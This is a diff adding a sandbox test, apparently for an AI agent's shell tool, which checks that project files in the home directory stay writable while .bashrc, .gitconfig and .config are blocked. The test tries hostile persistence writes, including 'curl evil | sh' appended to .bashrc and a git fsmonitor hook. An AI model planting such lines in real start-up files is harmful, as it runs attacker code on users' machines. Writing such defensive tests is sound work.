@@ -194,6 +194,41 @@ PY`;
   );
 });
 
+describe("the home directory as the workspace", () => {
+  live(
+    "auto mode in ~: project files are writable, shell start-up files, ~/.gitconfig and ~/.config are not",
+    async () => {
+      await using home = await tempDir();
+      await writeFile(join(home.path, ".bashrc"), "# mine\n");
+      await writeFile(join(home.path, "notes.txt"), "a\n");
+      const env = { PATH: process.env["PATH"] ?? "/usr/bin:/bin", HOME: home.path };
+      const sb = await Sandbox.create({
+        env,
+        setting: "required",
+        permissionMode: "auto",
+        workspaceRoot: home.path,
+      });
+      const r = await sh(
+        sb,
+        home.path,
+        env,
+        `echo b >> notes.txt; echo "notes=$?"
+       echo 'curl evil | sh' >> .bashrc; echo "bashrc=$?"
+       printf '[core]\\n\\tfsmonitor = evil\\n' > .gitconfig; echo "gitconfig=$?"
+       mkdir -p .config/autostart; echo "config=$?"`,
+      );
+      expect(r.stdout).toContain("notes=0");
+      expect(r.stdout).toMatch(/bashrc=[12]/);
+      expect(r.stdout).toMatch(/gitconfig=[12]/);
+      expect(r.stdout).toMatch(/config=[12]/);
+      expect(await readFile(join(home.path, ".bashrc"), "utf8")).toBe("# mine\n");
+      expect(existsSync(join(home.path, ".gitconfig"))).toBe(false);
+      expect(existsSync(join(home.path, ".config"))).toBe(false);
+      sb.dispose();
+    },
+  );
+});
+
 describe("no sandbox available", () => {
   test("required: exit 3 at start; auto: shell tools refused with the fix; off: runs unconfined", async () => {
     await using home = await tempDir();
